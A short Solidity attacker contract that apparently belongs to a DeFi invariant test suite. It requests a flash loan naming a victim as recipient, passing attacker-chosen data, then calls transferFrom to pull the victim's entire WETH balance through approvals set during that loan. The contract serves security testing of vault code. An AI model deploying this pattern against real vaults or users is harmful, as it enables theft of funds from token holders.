// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {CountingToken} from "../../invariants/market/CountingToken.sol";
import {HonestVault} from "../../invariants/market/HonestVault.sol";

/// @notice Asks for a loan in the victim's name, with data of the attacker's, then pulls what that approved.
contract BalancerLoanAttack {
    function attack(HonestVault vault, address victim, CountingToken weth, bytes calldata userData) external {
        (address[] memory tokens, uint256[] memory amounts) = (new address[](1), new uint256[](1));
        (tokens[0], amounts[0]) = (address(weth), 1);
        try vault.flashLoan(victim, tokens, amounts, userData) {} catch {}
        try weth.transferFrom(victim, address(this), weth.balanceOf(victim)) {} catch {}
    }
}
